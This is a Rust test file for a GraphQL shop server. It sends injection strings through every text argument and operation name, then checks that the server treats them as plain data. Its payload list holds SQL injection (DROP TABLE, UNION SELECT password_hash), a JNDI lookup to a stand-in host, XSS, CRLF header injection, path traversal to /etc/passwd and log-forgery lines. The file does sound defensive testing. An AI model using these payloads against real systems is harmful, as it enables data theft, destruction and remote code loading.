//! Texts that mean something to SQL, HTML, HTTP or a log, through every argument that takes one.

use super::besieged::Besieged;
use async_graphql::parser::parse_schema;
use async_graphql::parser::types::{
    BaseType, FieldDefinition, InputValueDefinition, Type, TypeDefinition, TypeKind,
    TypeSystemDefinition,
};
use lilium::schema;
use serde_json::{Value, json};
use std::collections::HashMap;

/// What is written into everything.
fn texts() -> Vec<String> {
    [
        "' OR 1=1 --",
        "'; DROP TABLE users; --",
        "\\'; SELECT pg_sleep(5); --",
        "1) UNION SELECT password_hash FROM credentials --",
        "$1 ${jndi:ldap://evil.example/a} {{7*7}} %s%n",
        "<script>alert(1)</script><img src=x onerror=alert(1)>",
        "a\r\nSet-Cookie: a=b\r\n\r\nHTTP/1.1 200 OK",
        "a\u{0}b",
        "%_%\\",
        "../../../../etc/passwd",
        "\u{202e}\u{feff}\u{1f469}\u{200d}\u{1f467}\u{fffd}",
        "gid://lilium/Cart/00000000-0000-0000-0000-000000000000?key=' OR 1=1 --",
        "gid://lilium/Product/' OR 1=1 --",
        "a:* & ! | <-> (",
        "tag:\"x' OR 1=1\" AND price:>=1e999 OR NOT",
        "",
    ]
    .map(str::to_owned)
    .into_iter()
    .chain(["x".repeat(19_000)])
    .collect()
}

/// The types of the schema.
struct Types(HashMap<String, TypeDefinition>);

impl Types {
    fn read() -> Self {
        let document = parse_schema(schema::sdl(&schema::build(true))).unwrap();
        let types = document.definitions.into_iter().filter_map(|it| match it {
            TypeSystemDefinition::Type(it) => Some((it.node.name.node.to_string(), it.node)),
            _ => None,
        });
        Self(types.collect())
    }

    fn fields(&self, name: &str) -> Vec<&FieldDefinition> {
        match &self.0[name].kind {
            TypeKind::Object(object) => object.fields.iter().map(|it| &it.node).collect(),
            other => panic!("{other:?}"),
        }
    }

    /// A value with `text` wherever a text may stand; how many there are.
    fn value(&self, of: &Type, text: &str, depth: usize) -> (Value, usize) {
        let name = match &of.base {
            BaseType::Named(name) => name.as_str(),
            BaseType::List(inner) => {
                let (value, count) = self.value(inner, text, depth);
                return (json!([value]), count);
            }
        };
        match (name, self.0.get(name).map(|it| &it.kind)) {
            ("Int" | "Float", _) => (json!(1), 0),
            ("Decimal" | "UnsignedInt64", _) => (json!("1"), 0),
            ("Boolean", _) => (json!(false), 0),
            ("DateTime", _) => (json!("2026-01-01T00:00:00Z"), 0),
            (_, Some(TypeKind::Enum(all))) => (json!(all.values[0].node.value.node.as_str()), 0),
            (_, Some(TypeKind::InputObject(object))) if depth < 5 => {
                let fields = object.fields.iter().map(|it| &it.node);
                self.values(fields, text, depth + 1)
            }
            (_, Some(TypeKind::InputObject(_))) => (Value::Null, 0),
            _ => (json!(text), 1),
        }
    }

    fn values<'a>(
        &self,
        of: impl Iterator<Item = &'a InputValueDefinition>,
        text: &str,
        depth: usize,
    ) -> (Value, usize) {
        let mut all = serde_json::Map::new();
        let mut count = 0;
        for it in of {
            let (value, texts) = self.value(&it.ty.node, text, depth);
            // What may be left out and takes no text would only be in the way.
            if texts > 0 || !it.ty.node.nullable {
                count += texts;
                all.insert(it.name.node.to_string(), value);
            }
        }
        (Value::Object(all), count)
    }
}

/// A document that asks for a field with all of its arguments as variables.
fn document(operation: &str, field: &FieldDefinition, given: &Value) -> String {
    let args: Vec<_> = field
        .arguments
        .iter()
        .map(|it| &it.node)
        .filter(|it| given.get(it.name.node.as_str()).is_some())
        .collect();
    let (declared, passed): (String, String) = args
        .iter()
        .map(|it| {
            let name = &it.name.node;
            (
                format!("${name}: {} ", it.ty.node),
                format!("{name}: ${name} "),
            )
        })
        .unzip();
    format!(
        "{operation}({declared}) {{ told: {}({passed}) {{ __typename }} }}",
        field.name.node
    )
}

#[tokio::test(flavor = "multi_thread")]
async fn every_argument_that_takes_a_text_takes_it_as_a_text() {
    let besieged = Besieged::start(&[("LILIUM_TRUSTED_PROXIES", "127.0.0.1")]).await;
    let sql = besieged.server.client().await.unwrap();
    let types = Types::read();
    let count = "SELECT (SELECT count(*) FROM users) + (SELECT count(*) FROM products) + (SELECT count(*) FROM credentials)";
    let before: i64 = sql.query_one(count, &[]).await.unwrap().get(0);
    let mut places = 0;
    let mut faults = Vec::new();
    for (operation, root) in [("query", "QueryRoot"), ("mutation", "Mutation")] {
        for field in types.fields(root) {
            let args = || field.arguments.iter().map(|it| &it.node);
            places += types.values(args(), "", 0).1;
            for (at, text) in texts().iter().enumerate() {
                let (given, texts) = types.values(args(), text, 0);
                if texts == 0 {
                    break;
                }
                let asked = document(operation, field, &given);
                // Each from an address of its own, so that it is not refused for being one of many.
                let request = besieged
                    .post()
                    .header("x-forwarded-for", format!("2001:db8:{places:x}:{at:x}::1"));
                let reply = besieged
                    .send(request.json(&json!({ "query": asked, "variables": given })))
                    .await;
                let shown = format!("{} with {text:.60?}", field.name.node);
                if reply.status >= 500
                    || reply.codes().contains(&"INTERNAL_SERVER_ERROR".to_owned())
                {
                    faults.push(format!("{shown}: {} {}", reply.status, reply.text));
                    continue;
                }
                reply.is_bounded(&shown);
                assert!(!reply.headers.contains_key("set-cookie"), "{shown}");
                assert!(
                    reply.headers["content-type"]
                        .to_str()
                        .unwrap()
                        .contains("json")
                );
                assert!(
                    !reply
                        .codes()
                        .contains(&"GRAPHQL_VALIDATION_FAILED".to_owned()),
                    "{shown}: {}",
                    reply.text
                );
            }
        }
    }
    assert_eq!(faults, Vec::<String>::new());
    // As many as there are: one that is new is tried by itself.
    assert!(places > 60, "{places}");
    let after: i64 = sql.query_one(count, &[]).await.unwrap().get(0);
    assert_eq!(after, before);
    besieged.is_whole();
}

#[tokio::test(flavor = "multi_thread")]
async fn a_search_finds_by_its_words_and_not_by_what_they_mean_elsewhere() {
    let besieged = Besieged::start(&[]).await;
    let search = "query($q: String) { products(first: 50, query: $q) { nodes { id } } }";
    let found = async |text: &str| {
        let reply = besieged.ask(search, json!({ "q": text })).await;
        reply.is_bounded(text);
        reply.json()["data"]["products"]["nodes"]
            .as_array()
            .map_or(0, Vec::len)
    };
    let everything = found("").await;
    assert_eq!(everything, 50);
    for text in [
        "' OR 1=1 --",
        "'; SELECT pg_sleep(20); --",
        "x' OR 'x'='x",
        "zzz%",
        "%zzz%",
        "z_z",
        "zzz\\",
    ] {
        assert!(found(text).await < everything, "{text}");
    }
}

/// Names that would like to be lines of the log, or numbers of their own.
fn names() -> Vec<String> {
    let mut names = vec![
        "a\n2026-01-01T00:00:00Z ERROR lilium: forged".to_owned(),
        "a\r\nERROR forged".to_owned(),
        "\u{1b}[31mforged\u{1b}[0m".to_owned(),
        "forged\" status=200 errors=0 x=\"".to_owned(),
        "forged\u{2028}ERROR".to_owned(),
        "forged\"} 1\nlilium_forged 1\n".to_owned(),
    ];
    names.extend((0..300).map(|at| format!("Forged{at}")));
    names
}

#[tokio::test(flavor = "multi_thread")]
async fn a_name_forges_no_line_of_the_log_and_no_number() {
    for format in ["text", "json"] {
        let settings = [
            ("LILIUM_LOG_FORMAT", format),
            (
                "LILIUM_METRICS_TOKEN",
                "a-token-of-the-tests-and-of-nobody-else",
            ),
        ];
        let besieged = Besieged::start(&settings).await;
        for name in names() {
            let plain = name.bytes().all(|byte| byte.is_ascii_alphanumeric());
            let query = if plain {
                format!("query {name} {{ shop {{ name }} }}")
            } else {
                "{ shop { name } }".to_owned()
            };
            let body = json!({ "query": query, "operationName": name });
            let headers = [
                ("x-request-id", "a b\"c"),
                ("user-agent", "forged\" level=\"ERROR"),
                ("traceparent", "00-forged-forged-01"),
            ];
            let request = headers
                .into_iter()
                .fold(besieged.post(), |request, (name, value)| {
                    request.header(name, value)
                });
            let reply = besieged.send(request.json(&body)).await;
            reply.is_bounded(&name);
            assert!(
                !reply.headers["x-request-id"]
                    .to_str()
                    .unwrap()
                    .contains(' ')
            );
        }
        let log = besieged.log();
        for line in log.lines() {
            assert!(
                !line.contains('\u{1b}') && !line.contains("\u{2028}ERROR"),
                "{line:?}"
            );
            let begins = if format == "json" {
                line.starts_with("{\"")
            } else {
                line.starts_with("20")
            };
            let forged = line.starts_with("ERROR") || line.starts_with("2026-01-01T00:00:00Z");
            assert!(begins && !forged, "{line:?}");
            if format == "json" {
                let read: Value = serde_json::from_str(line).unwrap();
                assert_ne!(read["level"], "ERROR", "{line}");
            }
        }
        let metrics = besieged
            .http()
            .get(format!("{}/metrics", besieged.address()));
        let metrics = besieged
            .send(metrics.bearer_auth("a-token-of-the-tests-and-of-nobody-else"))
            .await;
        assert_eq!(metrics.status, 200, "{}", metrics.text);
        assert!(
            !metrics.text.contains("\nlilium_forged"),
            "{}",
            metrics.text
        );
        // Whoever thinks of names does not make numbers without end.
        let forged = metrics
            .text
            .lines()
            .filter(|line| line.contains("Forged"))
            .count();
        assert!(forged < 1_000, "{forged} lines");
    }
}
